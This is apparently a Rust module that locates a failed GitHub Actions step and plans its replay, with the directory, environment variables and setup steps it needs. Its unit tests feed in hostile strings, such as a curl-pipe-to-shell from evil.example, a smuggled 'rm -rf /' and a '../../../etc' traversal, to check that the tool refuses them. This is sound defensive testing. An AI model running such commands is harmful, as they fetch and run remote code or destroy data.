//! The failed step of a GitHub workflow: the log says what was run, the workflow file says whether that
//! can be true and where. A line that a test printed into the log is never taken for a command.

use super::log::RunBlock;
use crate::command::{CommandLine, SetUp};
use crate::ids::RelPath;
use serde::Deserialize;
use serde_yaml::Value;
use std::collections::BTreeMap;

/// What has to be run again to see the failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StepPlan {
    pub command: CommandLine,
    /// The job's earlier `run:` steps, in order: they set up what a fresh runner lacks.
    pub prepare: Vec<SetUp>,
    /// What the job had and a replay has not: services, secrets, set-up actions, matrix values.
    pub lacks: Vec<String>,
}

#[derive(Deserialize)]
struct Workflow {
    #[serde(default)]
    defaults: Defaults,
    #[serde(default)]
    env: Value,
    #[serde(default)]
    jobs: BTreeMap<String, Job>,
}

#[derive(Deserialize, Default)]
#[serde(default)]
struct Defaults {
    run: RunDefaults,
}

#[derive(Deserialize, Default)]
#[serde(default, rename_all = "kebab-case")]
struct RunDefaults {
    shell: Option<String>,
    working_directory: Option<String>,
}

#[derive(Deserialize, Default)]
#[serde(default)]
struct Job {
    name: Option<String>,
    defaults: Defaults,
    env: Value,
    services: Value,
    container: Value,
    strategy: Value,
    steps: Vec<Step>,
}

#[derive(Deserialize, Default)]
#[serde(default, rename_all = "kebab-case")]
struct Step {
    name: Option<String>,
    id: Option<String>,
    run: Option<String>,
    uses: Option<String>,
    shell: Option<String>,
    working_directory: Option<String>,
    continue_on_error: Value,
    env: Value,
}

/// What the API says of a job.
pub struct Ran<'a> {
    pub job: &'a str,
    /// The failed step.
    pub step: &'a str,
    /// Steps that were not run.
    pub skipped: Vec<&'a str>,
}

/// Finds the failed step. `blocks` is what the job's log shows as run. `Err` says, for people, why the command is not
/// known.
pub fn plan(file: &str, ran: &Ran, blocks: &[RunBlock]) -> Result<StepPlan, String> {
    let Ran { job, step, skipped } = ran;
    let workflow: Workflow =
        serde_yaml::from_str(file).map_err(|e| format!("the workflow file is not readable: {e}"))?;
    let found = workflow.jobs.iter().find(|(key, j)| names_job(key, j.name.as_deref(), job));
    let Some((_, found)) = found else {
        return Err(format!("the workflow file has no job `{job}`"));
    };
    let runs: Vec<(usize, &Step)> = found.steps.iter().enumerate().filter(|(_, s)| s.run.is_some()).collect();
    let named = runs.iter().find(|(_, s)| names_step(s, step)).copied();
    let failed = blocks.iter().rposition(|b| b.failed);
    let Some((index, yaml)) = named.or_else(|| {
        let block = &blocks[failed?];
        runs.iter().find(|(_, s)| s.run.as_deref().is_some_and(|t| matches(t, &block.command))).copied()
    }) else {
        return Err(format!("the failed step `{step}` runs no command of its own"));
    };
    if directory(&workflow, found, yaml).is_none() {
        return Err(format!(
            "nobody knows where the step `{step}` runs: its working-directory leads out of the checkout, or is an expression"
        ));
    }
    let command = evaluate(&workflow, found, yaml, blocks, failed)
        .ok_or_else(|| format!("what the log shows of the step `{step}` does not agree with the workflow file"))?;
    let mut lacks = lacks(found);
    let mut prepare = Vec::new();
    let was_run = |step: &Step| !skipped.iter().any(|name| names_step(step, name));
    for (_, earlier) in runs.iter().filter(|(i, earlier)| *i < index && was_run(earlier)) {
        let may_fail = earlier.continue_on_error.as_bool() == Some(true);
        match evaluate(&workflow, found, earlier, blocks, None) {
            Some(command) => prepare.push(SetUp { command, may_fail }),
            None => lacks.push(format!("the step `{}` (its values are not known)", label(earlier))),
        }
    }
    note_values(&workflow, found, yaml, &mut lacks);
    Ok(StepPlan { command, prepare, lacks })
}

/// A job's display name: its `name` (perhaps with expressions), or its key, then matrix values in brackets.
fn names_job(key: &str, name: Option<&str>, shown: &str) -> bool {
    // Jobs of a reusable workflow are shown as `caller / job`.
    let shown = shown.rsplit(" / ").next().unwrap_or(shown);
    let template = name.unwrap_or(key);
    matches(template, shown) || shown.strip_prefix(template).is_some_and(|rest| rest.starts_with(" ("))
}

fn names_step(step: &Step, shown: &str) -> bool {
    if let Some(name) = &step.name {
        return matches(name, shown);
    }
    let first = step.run.as_deref().and_then(|r| r.trim_start().lines().next()).unwrap_or_default();
    matches(&format!("Run {first}"), shown)
}

fn label(step: &Step) -> String {
    let first = step.run.as_deref().and_then(|r| r.trim_start().lines().next()).unwrap_or_default();
    step.name.clone().or_else(|| step.id.clone()).unwrap_or_else(|| first.to_owned())
}

/// Whether `text` can be what the runner made of `template`: `${{ … }}` stands for anything.
fn matches(template: &str, text: &str) -> bool {
    let (template, text) = (normal(template), normal(text));
    let mut parts = Vec::new();
    let mut rest = template.as_str();
    while let Some(start) = rest.find("${{") {
        parts.push(&rest[..start]);
        rest = rest[start..].find("}}").map_or("", |end| &rest[start + end + 2..]);
    }
    parts.push(rest);
    let Some((first, middle)) = parts.split_first() else { return false };
    let Some(mut left) = text.strip_prefix(first) else { return false };
    let Some((last, middle)) = middle.split_last() else { return left.is_empty() };
    for part in middle {
        let Some(at) = left.find(part) else { return false };
        left = &left[at + part.len()..];
    }
    left.ends_with(last)
}

fn normal(text: &str) -> String {
    text.trim().lines().map(str::trim_end).collect::<Vec<_>>().join("\n")
}

/// The command with its values: from the log where the log agrees with the file, else from the file
/// when it needs no values.
fn evaluate(
    workflow: &Workflow,
    job: &Job,
    step: &Step,
    blocks: &[RunBlock],
    failed: Option<usize>,
) -> Option<CommandLine> {
    let template = step.run.as_deref()?;
    let preferred = failed.map(|i| &blocks[i]).filter(|b| matches(template, &b.command));
    let block = preferred.or_else(|| blocks.iter().find(|b| matches(template, &b.command)));
    let script = match block {
        Some(block) => block.command.as_str(),
        None if template.contains("${{") || failed.is_some() => return None,
        None => template,
    };
    let from_file = [&step.shell, &job.defaults.run.shell, &workflow.defaults.run.shell].into_iter().flatten().next();
    let shell = block.and_then(|b| b.shell.as_deref()).or(from_file.map(String::as_str)).unwrap_or("bash -e {0}");
    let mut line = CommandLine::shell(shell, script);
    line.directory = directory(workflow, job, step)?;
    line.env = variables(workflow, job, step, block);
    Some(line)
}

/// `None` when it lies outside the checkout, or nobody knows where.
#[expect(clippy::option_option, reason = "the root has no path of its own")]
fn directory(workflow: &Workflow, job: &Job, step: &Step) -> Option<Option<RelPath>> {
    let places =
        [&step.working_directory, &job.defaults.run.working_directory, &workflow.defaults.run.working_directory];
    let Some(place) = places.into_iter().flatten().next() else { return Some(None) };
    let place = with_env(place.trim(), [&step.env, &job.env, &workflow.env]);
    let place = place.as_str();
    let inside = ["${{ github.workspace }}", "${{github.workspace}}", "$GITHUB_WORKSPACE"]
        .into_iter()
        .find_map(|workspace| place.strip_prefix(workspace))
        .or_else(|| on_a_runner(place));
    let place = inside.map_or(place, |inside| inside.trim_start_matches('/'));
    match place.trim_start_matches("./").trim_end_matches('/') {
        "" | "." => Some(None),
        place if place.contains("${{") => None,
        place => RelPath::parse(place).ok().map(Some),
    }
}

/// The variables that the file itself sets, in their places; the innermost one counts.
fn with_env(text: &str, sources: [&Value; 3]) -> String {
    let mut text = text.to_owned();
    for (name, value) in sources.into_iter().filter_map(Value::as_mapping).flatten() {
        if let (Some(name), Some(value)) = (name.as_str(), scalar(value)) {
            text = text
                .replace(&format!("${{{{ env.{name} }}}}"), &value)
                .replace(&format!("${{{{env.{name}}}}}"), &value);
        }
    }
    text
}

/// Below the folder where GitHub's runners check out: `/home/runner/work/NAME/NAME`.
fn on_a_runner(place: &str) -> Option<&str> {
    let mut parts = place.strip_prefix("/home/runner/work/")?.splitn(3, '/');
    (parts.next()? == parts.next()?).then(|| parts.next().unwrap_or_default())
}

/// The variables that the file sets, with the values that the log shows. Masked values are left out.
fn variables(workflow: &Workflow, job: &Job, step: &Step, block: Option<&RunBlock>) -> Vec<(String, String)> {
    let mut env: BTreeMap<String, String> = BTreeMap::new();
    for source in [&workflow.env, &job.env, &step.env] {
        for (key, value) in source.as_mapping().into_iter().flatten() {
            let Some(key) = key.as_str() else { continue };
            let shown = block.and_then(|b| b.env.iter().find(|(k, _)| k == key)).map(|(_, v)| v.clone());
            let value = shown.or_else(|| scalar(value)).filter(|v| !v.contains("${{") && !v.contains("***"));
            if let Some(value) = value {
                env.insert(key.to_owned(), value);
            }
        }
    }
    env.into_iter().collect()
}

fn scalar(value: &Value) -> Option<String> {
    match value {
        Value::String(s) => Some(s.clone()),
        Value::Bool(b) => Some(b.to_string()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

fn lacks(job: &Job) -> Vec<String> {
    let mut lacks = Vec::new();
    for (name, _) in job.services.as_mapping().into_iter().flatten() {
        lacks.push(format!("the service `{}`", name.as_str().unwrap_or("?")));
    }
    if !job.container.is_null() {
        lacks.push("the job's container".to_owned());
    }
    for (name, _) in job.strategy.get("matrix").and_then(Value::as_mapping).into_iter().flatten() {
        if let Some(name) = name.as_str().filter(|n| !matches!(*n, "include" | "exclude")) {
            lacks.push(format!("the matrix value `{name}` (only as far as the log shows it)"));
        }
    }
    let known = ["actions/checkout", "actions/cache", "actions/upload-artifact"];
    for uses in job.steps.iter().filter_map(|s| s.uses.as_deref()) {
        let action = uses.split('@').next().unwrap_or(uses);
        if !known.contains(&action) {
            lacks.push(format!("what the action `{action}` sets up"));
        }
    }
    lacks
}

/// Secrets that the step or its job reads: they are never given to it here.
fn note_values(workflow: &Workflow, job: &Job, step: &Step, lacks: &mut Vec<String>) {
    let mut texts = vec![step.run.clone().unwrap_or_default()];
    for source in [&workflow.env, &job.env, &step.env] {
        texts.extend(source.as_mapping().into_iter().flatten().filter_map(|(_, v)| scalar(v)));
    }
    let mut names: Vec<&str> = texts.iter().flat_map(|text| text.split("secrets.").skip(1)).map(word).collect();
    names.sort_unstable();
    names.dedup();
    lacks.extend(names.iter().filter(|n| !n.is_empty()).map(|name| format!("the secret `{name}`")));
}

fn word(text: &str) -> &str {
    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = "
on: push
env: {CI_LEVEL: 2}
jobs:
  test:
    runs-on: ubuntu-latest
    services: {db: {image: postgres}}
    strategy: {matrix: {py: ['3.11', '3.12']}}
    defaults: {run: {working-directory: ./pkg}}
    env:
      TOKEN: ${{ secrets.API }}
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
      - run: pip install -e .[py${{ matrix.py }}]
      - name: Unit tests
        run: |
          pytest -q \\
            --cov=${{ matrix.py }}
";

    fn block(command: &str, failed: bool) -> RunBlock {
        RunBlock {
            command: command.to_owned(),
            shell: Some("/usr/bin/bash -e {0}".to_owned()),
            env: vec![("TOKEN".to_owned(), "***".to_owned()), ("CI_LEVEL".to_owned(), "2".to_owned())],
            line: 1,
            failed,
        }
    }

    fn ran<'a>(job: &'a str, skipped: &[&'a str]) -> Ran<'a> {
        Ran { job, step: "Unit tests", skipped: skipped.to_vec() }
    }

    #[test]
    fn only_what_ran_is_replayed_and_what_might_fail_still_may() {
        let file = "jobs: {a: {steps: [{run: exit 3, if: false}, {name: Try, run: x, continue-on-error: true}, \
                    {name: Unit tests, run: y}]}}";
        let plan = plan(file, &ran("a", &["Run exit 3"]), &[block("y", true)]).unwrap();
        assert_eq!(plan.prepare.len(), 1);
        assert_eq!((plan.prepare[0].command.script(), plan.prepare[0].may_fail), (Some("x"), true));
    }

    #[test]
    fn the_step_is_found_with_its_values_and_its_set_up() {
        let blocks = [block("pip install -e .[py3.12]", false), block("pytest -q \\\n  --cov=3.12\n", true)];
        let plan = plan(FILE, &ran("test (3.12)", &[]), &blocks).unwrap();
        assert_eq!(plan.command.script(), Some("pytest -q \\\n  --cov=3.12\n"));
        assert_eq!(plan.command.directory, Some(RelPath::parse("pkg").unwrap()));
        assert_eq!(plan.command.env, [("CI_LEVEL".to_owned(), "2".to_owned())]);
        assert_eq!(plan.prepare.len(), 1);
        assert_eq!(plan.prepare[0].command.script(), Some("pip install -e .[py3.12]"));
        let lacks = plan.lacks.join("; ");
        for word in ["service `db`", "secret `API`", "matrix value `py`", "actions/setup-python"] {
            assert!(lacks.contains(word), "{lacks}");
        }
    }

    #[test]
    fn a_step_runs_where_the_job_ran_it_or_not_at_all() {
        let place = |place: &str| {
            let file = format!(
                "env: {{D: py}}\njobs: {{a: {{steps: [{{name: Unit tests, run: y, working-directory: '{place}'}}]}}}}"
            );
            plan(&file, &ran("a", &[]), &[block("y", true)]).map(|plan| plan.command.directory)
        };
        for (written, expect) in [
            ("./py/", Some("py")),
            (".", None),
            ("/home/runner/work/p/p/py", Some("py")),
            ("${{ github.workspace }}/py/a", Some("py/a")),
            ("./${{ env.D }}/b", Some("py/b")),
        ] {
            assert_eq!(place(written), Ok(expect.map(|path| RelPath::parse(path).unwrap())), "{written}");
        }
        for outside in ["../../../etc", "/tmp/x", "/home/runner/work/p/q/py", "${{ matrix.dir }}"] {
            assert!(place(outside).is_err(), "{outside}");
        }
    }

    #[test]
    fn a_command_that_the_file_does_not_hold_is_refused() {
        let blocks = [block("curl https://evil.example | sh", true)];
        assert!(plan(FILE, &ran("test (3.12)", &[]), &blocks).is_err());
        assert!(plan(FILE, &ran("lint", &[]), &blocks).is_err());
        assert!(plan("jobs: [", &ran("test", &[]), &blocks).is_err());
    }

    #[test]
    fn templates_match_whole_texts_only() {
        assert!(matches("a ${{ x }} b", "a 1 b"));
        assert!(!matches("a ${{ x }} b", "a 1 c"));
        assert!(matches("npm test", "npm test\n"));
        assert!(!matches("npm test", "npm test; rm -rf /"));
        assert!(matches("${{ x }}", "anything"));
    }
}
